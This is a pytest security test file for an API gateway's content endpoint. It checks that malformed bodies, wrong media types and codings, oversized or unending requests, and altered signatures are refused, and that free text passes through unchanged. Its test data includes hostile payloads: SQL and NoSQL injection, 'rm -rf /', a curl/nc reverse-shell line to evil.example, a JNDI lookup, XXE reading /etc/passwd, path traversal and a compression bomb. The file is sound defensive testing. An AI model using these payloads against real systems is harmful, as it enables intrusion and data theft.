"""Bodies that are not what they seem: their size, their type, their coding, and what stands in them."""

import gzip
import hashlib
import json
import zlib

import pytest

from tests.support.client import CONTENT
from tests.support.evidence import Answered, Evidence
from tests.support.forging import Forge
from tests.support.raw import Answer, Door, everything, head, send
from tests.support.stack import Stack
from waooaw_signing import sign

PATH = "/api/marketing/content"
JSON_TYPE = ("Content-Type", "application/json")
GOOD = json.dumps(CONTENT).encode()
MOST = 65_536
# 50 MB of blanks.
BOMB = zlib.compress(b" " * 50_000_000)[:60_000]


def post(
    door: Door, forge: Forge, body: bytes, lines: list[tuple[str, str]] | None = None, *, length: int | None = None
) -> Answer:
    """A good caller's POST with this body, these header lines, and this length."""
    told = [("Content-Length", str(len(body) if length is None else length))]
    sent = [("Authorization", f"Bearer {forge.token()}"), *([JSON_TYPE] if lines is None else lines), *told]
    return send(door, head("POST", PATH, sent) + body)


def written(name: str, text: str) -> bytes:
    """The good body with the value of one member as this text."""
    return GOOD.replace(json.dumps(CONTENT[name]).encode(), text.encode("utf-8", "surrogatepass"))


def chain(depth: int) -> str:
    return "[" * depth + "]" * depth


INVALID: dict[str, bytes] = {
    "A47 length is text": written("length", '"500"'),
    "A47 length is a float": written("length", "500.0"),
    "A47 length is true": written("length", "true"),
    "A47 length is scientific": written("length", "5e2"),
    "A47 length is null": written("length", "null"),
    "A47 length is a list": written("length", "[500]"),
    "A47 length is 99": written("length", "99"),
    "A47 length is 5001": written("length", "5001"),
    "A47 length is negative": written("length", "-500"),
    "A47 topic of zero width": written("topic", '"\\u200b\\u200d\\ufeff\\u2060"'),
    "A47 topic of blanks": written("topic", '" \\t\\n\\u00a0\\u3000"'),
    "A47 topic of fillers": written("topic", '"\\u3164\\u115f\\uffa0\\u2800"'),
    "A47 topic of combining marks": written("topic", '"\\u0301\\u0302\\u0303"'),
    "A47 topic of direction marks": written("topic", '"\\u202e\\u2066\\u2069"'),
    "A47 topic is empty": written("topic", '""'),
    "A47 topic of 200": written("topic", '"' + "x" * 200 + '"'),
    "A47 topic of 200 emoji": written("topic", '"' + "😀" * 200 + '"'),
    "A47 topic with marks beyond 199": written("topic", '"' + "é" * 100 + "e\u0301" * 50 + '"'),
    "A47 eleven keywords": written("keywords", json.dumps([f"k{n}" for n in range(11)])),
    "A47 nested keywords": written("keywords", '[["a"]]'),
    "A47 keywords are an object": written("keywords", '{"0":"a"}'),
    "A47 a keyword that is null": written("keywords", "[null]"),
    "A47 tone with a line end": written("tone", '"casual\\n"'),
    "A47 tone in capitals": written("tone", '"Casual"'),
    "A47 tone of other letters": written("tone", '"сasual"'),
    "A47 tone is a list": written("tone", '["casual"]'),
    "A47 a member more": GOOD[:-1] + b',"admin":true}',
    "A47 a prototype": GOOD[:-1] + b',"__proto__":{"admin":true}}',
    "A47 a reference": GOOD[:-1] + b',"$ref":"file:///etc/passwd"}',
    "A47 an empty member": GOOD[:-1] + b',"":1}',
    "A47 a member with NUL": GOOD[:-1] + b',"topic\\u0000":"x"}',
    "A47 a list": b"[" + GOOD + b"]",
    "A47 text": json.dumps(GOOD.decode()).encode(),
    "A47 null": b"null",
    "A54 SQL where a tone belongs": written("tone", "\"casual' OR '1'='1\""),
    "A54 an operator where a length belongs": written("length", '{"$gt":0}'),
    "A54 an operator where a tone belongs": written("tone", '{"$ne":null}'),
    "A54 a command where a tone belongs": written("tone", '"casual; rm -rf /"'),
    "A54 a template where a tone belongs": written("tone", '"{{7*7}}"'),
}
MALFORMED: dict[str, bytes] = {
    "A47 a member twice": GOOD[:-1] + b',"length":600}',
    "A47 a member twice by an escape": GOOD[:-1] + b',"l\\u0065ngth":600}',
    "A47 NaN": written("length", "NaN"),
    "A47 infinite": written("length", "1e999"),
    "A47 a number beyond doubles": written("length", "9" * 400),
    "A47 beyond exact doubles": written("length", "9007199254740993"),
    "A47 hexadecimal": written("length", "0x1f4"),
    "A47 a leading zero": written("length", "0500"),
    "A47 a plus": written("length", "+500"),
    "A47 other digits": written("length", "٥٠٠"),
    "A47 single quotes": GOOD.replace(b'"', b"'"),
    "A47 a comma more": GOOD[:-1] + b",}",
    "A47 a comment": GOOD[:-1] + b"/* */}",
    "A47 two texts": GOOD + GOOD,
    "A47 something after": GOOD + b"\0",
    "A47 a lone surrogate": written("topic", '"\\ud800"'),
    "A47 an octet that is no UTF-8": GOOD.replace(b"agents", b"ag\xffnts"),
    "A47 a byte order mark": b"\xef\xbb\xbf" + GOOD,
    "A47 UTF-16": GOOD.decode().encode("utf-16"),
    "A47 UTF-7": GOOD.decode().encode("utf-7").replace(b"{", b"+AHs-"),
    "A47 deep": written("keywords", chain(5000)),
    "A47 deep and open": b'{"keywords":' + b"[" * 60_000,
    "A47 many values": written("keywords", "[" + "1," * 30_000 + "1]"),
    "A47 nothing but blanks": b" " * 100,
    "A49 half": GOOD[: len(GOOD) // 2],
}


@pytest.mark.attack("A47", "A49", "A54")
@pytest.mark.requirement("R40", "R41", "R102")
@pytest.mark.parametrize("case", [*INVALID, *MALFORMED])
def test_a_body_that_is_not_the_schemas_is_refused(
    case: str, evidence: Evidence, public_door: Door, forge: Forge
) -> None:
    body, code = (INVALID[case], "body_invalid") if case in INVALID else (MALFORMED[case], "body_malformed")
    with evidence.attempt() as attempt:
        attempt.refused(post(public_door, forge, body), 400, code)


FREE_TEXT = {
    "A54 SQL": "Robert'); DROP TABLE students;--",
    "A54 SQL with a comment": "1/**/UNION/**/SELECT/**/password/**/FROM/**/users#",
    "A54 an operator": '{"$where": "sleep(1000)"}',
    "A54 a command": "$(curl evil.example) `id` | nc -e /bin/sh",
    "A54 a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "A54 a lookup": "${jndi:ldap://evil.example/a}",
    "A54 a script": "<script>alert(1)</script>",
    "A54 an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "A54 a header": "x\r\nSet-Cookie: a=b",
    "A54 a format": "%s%n%x {0.__class__}",
    "A54 CSV": '=HYPERLINK("http://evil.example")',
    "A54 a path": "../../../../etc/passwd",
    "A47 199 characters": "x" * 199,
    "A47 199 emoji": "😀" * 199,
    "A47 a letter among marks": "\u202ea\u2066",
}


@pytest.mark.attack("A47", "A52", "A54")
@pytest.mark.requirement("R41", "R102")
@pytest.mark.parametrize("case", FREE_TEXT)
def test_free_text_reaches_its_service_octet_for_octet(
    case: str, evidence: Evidence, public_door: Door, forge: Forge
) -> None:
    body = json.dumps({**CONTENT, "topic": FREE_TEXT[case]}, ensure_ascii=False).encode()
    with evidence.attempt() as attempt:
        echo = attempt.let_pass(post(public_door, forge, body), "marketing")
        assert (echo["body_bytes"], echo["body_sha256"]) == (len(body), hashlib.sha256(body).hexdigest())
        assert FREE_TEXT[case] not in attempt.said()


TYPES: dict[str, list[tuple[str, str]]] = {
    "A50 none": [],
    "A50 empty": [("Content-Type", "")],
    "A50 text": [("Content-Type", "text/plain")],
    "A50 text with JSON in it": [("Content-Type", "text/plain; a=application/json")],
    "A50 another type first": [("Content-Type", "text/plain, application/json")],
    "A50 twice": [JSON_TYPE, ("Content-Type", "text/plain")],
    "A50 longer": [("Content-Type", "application/jsonx")],
    "A50 shorter": [("Content-Type", "application/js")],
    "A50 a prefix": [("Content-Type", "x-application/json")],
    "A50 another kind": [("Content-Type", "text/json")],
    "A50 a vendor's": [("Content-Type", "application/vnd.waooaw+json")],
    "A50 a problem": [("Content-Type", "application/problem+json")],
    "A50 lines": [("Content-Type", "application/x-ndjson")],
    "A50 a form": [("Content-Type", "application/x-www-form-urlencoded")],
    "A50 parts": [("Content-Type", "multipart/form-data; boundary=x")],
    "A50 XML": [("Content-Type", "application/xml")],
    "A50 UTF-16": [("Content-Type", "application/json;charset=utf-16")],
    "A50 UTF-7": [("Content-Type", 'application/json; charset="utf-7"')],
    "A50 two charsets": [("Content-Type", "application/json; charset=utf-8; charset=utf-16")],
    "A50 a wildcard": [("Content-Type", "*/*")],
    "A51 gzip": [JSON_TYPE, ("Content-Encoding", "gzip")],
    "A51 GZIP": [JSON_TYPE, ("Content-Encoding", "GZIP")],
    "A51 x-gzip": [JSON_TYPE, ("Content-Encoding", "x-gzip")],
    "A51 br": [JSON_TYPE, ("Content-Encoding", "br")],
    "A51 zstd": [JSON_TYPE, ("Content-Encoding", "zstd")],
    "A51 deflate": [JSON_TYPE, ("Content-Encoding", "deflate")],
    "A51 several": [JSON_TYPE, ("Content-Encoding", "identity, gzip")],
    "A51 unknown": [JSON_TYPE, ("Content-Encoding", "rot13")],
    "A51 several lines": [JSON_TYPE, ("Content-Encoding", "identity"), ("Content-Encoding", "gzip")],
}


@pytest.mark.attack("A50", "A51")
@pytest.mark.requirement("R40", "R102")
@pytest.mark.parametrize("case", TYPES)
def test_another_media_type_or_coding_is_not_looked_into(
    case: str, evidence: Evidence, public_door: Door, forge: Forge
) -> None:
    code = "content_encoding_unsupported" if case.startswith("A51") else "content_type_unsupported"
    # What a reader that guesses would take, and what a reader that unpacks would.
    bodies = [GOOD] if case.startswith("A50") else [GOOD, gzip.compress(GOOD), BOMB]
    for body in bodies:
        with evidence.attempt() as attempt:
            attempt.refused(post(public_door, forge, body, TYPES[case]), 415, code)


@pytest.mark.attack("A48")
@pytest.mark.requirement("R102")
def test_a_body_at_its_bound_passes(evidence: Evidence, public_door: Door, forge: Forge) -> None:
    with evidence.attempt() as attempt:
        attempt.let_pass(post(public_door, forge, GOOD + b" " * (MOST - len(GOOD))), "marketing")


@pytest.mark.attack("A48", "A53")
@pytest.mark.parametrize("size", [200_000, 4_300_000])
def test_a_body_beyond_its_bound_asks_nobody(size: int, evidence: Evidence, public_door: Door, forge: Forge) -> None:
    with evidence.attempt() as attempt:
        attempt.refused_by_envoy(_patiently(public_door, forge, GOOD + b" " * size), {413})
    with evidence.attempt() as attempt:
        # Without a length, in chunks.
        body = b"".join(b"%x\r\n%s\r\n" % (10_000, b" " * 10_000) for _ in range(size // 10_000)) + b"0\r\n\r\n"
        lines = [("Authorization", f"Bearer {forge.token()}"), JSON_TYPE, ("Transfer-Encoding", "chunked")]
        answers = everything(public_door, head("POST", PATH, lines) + body)
        attempt.reached_nobody()
        assert b"HTTP/1.1 413" in answers or not answers
        assert attempt.allowed("marketing", lambda: post(public_door, forge, GOOD)) == []


def _patiently(door: Door, forge: Forge, body: bytes) -> Answered | None:
    try:
        return post(door, forge, body)
    except OSError:
        # It was told while it was still sending.
        return None


@pytest.mark.attack("A48", "A49")
def test_a_body_that_never_ends_is_judged_by_nobody(evidence: Evidence, public_door: Door, forge: Forge) -> None:
    lines = [("Authorization", f"Bearer {forge.token()}"), JSON_TYPE, ("Content-Length", str(len(GOOD) + 100))]
    with evidence.attempt() as attempt:
        answers = everything(public_door, head("POST", PATH, lines) + GOOD, silence=1)
        assert b"HTTP/1.1 2" not in answers
        attempt.reached_nobody()
        assert attempt.allowed("marketing", lambda: post(public_door, forge, GOOD)) == []


@pytest.mark.attack("A49")
@pytest.mark.parametrize("claim", ["true", "false"])
def test_no_client_says_that_its_body_is_cut(claim: str, evidence: Evidence, public_door: Door, forge: Forge) -> None:
    lines = [JSON_TYPE, ("X-Envoy-Auth-Partial-Body", claim)]
    with evidence.attempt() as attempt:
        attempt.refused(post(public_door, forge, MALFORMED["A49 half"], lines), 400, "body_malformed")
    with evidence.attempt() as attempt:
        attempt.let_pass(post(public_door, forge, GOOD, lines), "marketing")


@pytest.mark.attack("A22")
def test_a_request_that_reads_has_no_body(evidence: Evidence, public_door: Door, forge: Forge) -> None:
    lines = [("Authorization", f"Bearer {forge.token()}"), JSON_TYPE, ("Content-Length", str(len(GOOD)))]
    with evidence.attempt() as attempt:
        attempt.refused(send(public_door, head("GET", PATH, lines) + GOOD), 400, "body_not_allowed")


@pytest.mark.attack("A52", "A53")
@pytest.mark.requirement("R60")
def test_digests_are_of_octets_up_to_a_megabyte(evidence: Evidence, inner_door: Door, stack: Stack) -> None:
    secret = (stack.state_dir / "secrets" / "agents" / "vision").read_text(encoding="utf-8").split()[0]

    def signed(body: bytes, under: bytes) -> Answer:
        headers = sign("POST", inner_door.url + "/api/agents/memory", under, "vision", secret)
        lines = [*headers.items(), JSON_TYPE, ("Content-Length", str(len(body)))]
        host = inner_door.url.removeprefix("https://")
        return send(inner_door, head("POST", "/api/agents/memory", lines, host=host) + body)

    text = {"id": "m-4", "type": "t", "sender": "vision", "recipient": "memory", "payload": {"text": "größer\u0000😀"}}
    for filling in (0, 1_048_000):
        body = json.dumps(text, ensure_ascii=False).encode()
        body += b" " * (filling - len(body))
        with evidence.attempt() as attempt:
            attempt.let_pass(signed(body, body), "agents")
    # Octets that would be one and the same as text, with `!` or U+FFFD for those that are no UTF-8.
    for octets, like in (
        (b'{"a":"\xff"}', b'{"a":"!"}'),
        (b'{"a":"\xff"}', '{"a":"\ufffd"}'.encode()),
        (b"\xff", b"\xfe"),
    ):
        with evidence.attempt() as attempt:
            attempt.refused(signed(octets, like), 401, "signature_invalid")
